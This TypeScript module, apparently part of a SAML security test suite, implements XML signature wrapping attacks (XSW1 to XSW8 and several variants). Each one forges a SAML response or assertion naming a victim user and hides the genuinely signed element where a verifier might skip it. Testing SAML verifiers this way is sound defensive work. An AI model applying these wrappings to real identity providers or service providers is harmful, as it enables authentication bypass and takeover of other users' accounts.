import type { SamlMessage } from './saml-idp.ts'

const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol'
const assertionNs = 'urn:oasis:names:tc:SAML:2.0:assertion'
const signatureNs = 'http://www.w3.org/2000/09/xmldsig#'

/** Whom the forger wants to be. */
export const victim = 'owner@example.com'

/** Signature wrapping: the signed part is kept somewhere, and something forged stands where it would be read. */
type Wrapping = (parts: {
  document: Document
  response: Element
  assertion: Element
  /** Copies with the victim inside, other IDs and no signature. */
  evilResponse: Element
  evilAssertion: Element
  make(namespace: string, name: string): Element
}) => void

/** XSW 1 to 8 of the usual numbering (Somorovsky 2012; SAML Raider), with the variants that others added. */
export const wrappings = {
  // Of a signed response: the forged one is outside, and the genuine one in its signature, or before it.
  xsw1: ({ document, response, evilResponse }) => {
    const signature = signatureIn(response)
    document.replaceChild(evilResponse, response)
    evilResponse.insertBefore(signature, evilResponse.firstChild)
    signature.appendChild(response)
  },
  xsw2: ({ document, response, evilResponse }) => {
    const signature = signatureIn(response)
    document.replaceChild(evilResponse, response)
    evilResponse.insertBefore(response, evilResponse.firstChild)
    evilResponse.insertBefore(signature, evilResponse.firstChild)
  },
  // Of a signed assertion.
  xsw3: ({ response, assertion, evilAssertion }) => {
    response.insertBefore(evilAssertion, assertion)
  },
  xsw3b: ({ response, evilAssertion }) => {
    response.appendChild(evilAssertion)
  },
  xsw4: ({ response, assertion, evilAssertion }) => {
    response.replaceChild(evilAssertion, assertion)
    evilAssertion.appendChild(assertion)
  },
  xsw5: ({ response, assertion, evilAssertion }) => {
    const signature = signatureIn(assertion)
    response.insertBefore(evilAssertion, assertion)
    evilAssertion.insertBefore(signature, evilAssertion.firstChild)
  },
  xsw6: ({ response, assertion, evilAssertion }) => {
    const signature = signatureIn(assertion)
    response.replaceChild(evilAssertion, assertion)
    evilAssertion.insertBefore(signature, evilAssertion.firstChild)
    signature.appendChild(assertion)
  },
  xsw7: ({ response, assertion, evilAssertion, make }) => {
    const extensions = make(protocol, 'samlp:Extensions')
    extensions.appendChild(evilAssertion)
    response.insertBefore(extensions, assertion)
  },
  xsw8: ({ response, assertion, evilAssertion, make }) => {
    const signature = signatureIn(assertion)
    const object = make(signatureNs, 'ds:Object')
    response.replaceChild(evilAssertion, assertion)
    evilAssertion.insertBefore(signature, evilAssertion.firstChild)
    signature.appendChild(object)
    object.appendChild(assertion)
  },
  'signed-in-advice': ({ response, assertion, evilAssertion, make }) => {
    const advice = make(assertionNs, 'saml:Advice')
    response.replaceChild(evilAssertion, assertion)
    evilAssertion.appendChild(advice)
    advice.appendChild(assertion)
  },
  'signed-in-statusdetail': ({ response, assertion, evilAssertion, make }) => {
    const detail = make(protocol, 'samlp:StatusDetail')
    response.replaceChild(evilAssertion, assertion)
    response.getElementsByTagNameNS(protocol, 'Status').item(0)?.appendChild(detail)
    detail.appendChild(assertion)
  },
  'signed-in-extensions': ({ response, assertion, evilAssertion, make }) => {
    const extensions = make(protocol, 'samlp:Extensions')
    response.replaceChild(evilAssertion, assertion)
    response.insertBefore(extensions, response.firstChild)
    extensions.appendChild(assertion)
  },
  // The forged one is of a namespace that a careless reader does not look at.
  'evil-in-other-namespace': ({ document, response, assertion, evilAssertion }) => {
    const odd = document.createElementNS('urn:evil', 'evil:Assertion')
    while (evilAssertion.firstChild) odd.appendChild(evilAssertion.firstChild)
    response.insertBefore(odd, assertion)
  },
  'evil-attributestatement-sibling': ({ response, assertion, evilAssertion }) => {
    const statement = evilAssertion.getElementsByTagNameNS(assertionNs, 'AttributeStatement').item(0)
    if (statement) response.insertBefore(statement, assertion)
  },
  'signature-moved-to-response': ({ response, assertion, evilAssertion }) => {
    const signature = signatureIn(assertion)
    response.insertBefore(signature, response.firstChild)
    response.replaceChild(evilAssertion, assertion)
  },
} satisfies Record<string, Wrapping>

/** Wraps a signed message. */
export function wrap(message: SamlMessage, wrapping: Wrapping): SamlMessage {
  return message.change((document) => {
    const response = document.documentElement
    const assertion = response.getElementsByTagNameNS(assertionNs, 'Assertion').item(0)
    if (!assertion) throw new Error('there is no assertion')
    const make = (namespace: string, name: string) => document.createElementNS(namespace, name)
    const evilResponse = forged(response, '_evilresponse')
    const evilAssertion = forged(assertion, '_evilassertion')
    wrapping({ document, response, assertion, evilResponse, evilAssertion, make })
  })
}

function forged(original: Element, id: string): Element {
  const copy = original.cloneNode(true) as Element // A clone is what was cloned.
  const signatures = copy.getElementsByTagNameNS(signatureNs, 'Signature')
  for (let signature = signatures.item(0); signature; signature = signatures.item(0)) {
    signature.parentNode?.removeChild(signature)
  }
  const inner = copy.getElementsByTagNameNS(assertionNs, 'Assertion').item(0)
  inner?.setAttribute('ID', '_evilinner')
  copy.setAttribute('ID', id)
  for (const name of ['NameID', 'AttributeValue']) {
    const element = copy.getElementsByTagNameNS(assertionNs, name).item(0)
    if (element) element.textContent = victim
  }
  return copy
}

function signatureIn(parent: Element): Element {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    if (node.nodeName === 'ds:Signature') return parent.removeChild(node) as unknown as Element // It is an element by its name.
  }
  throw new Error('there is no signature')
}
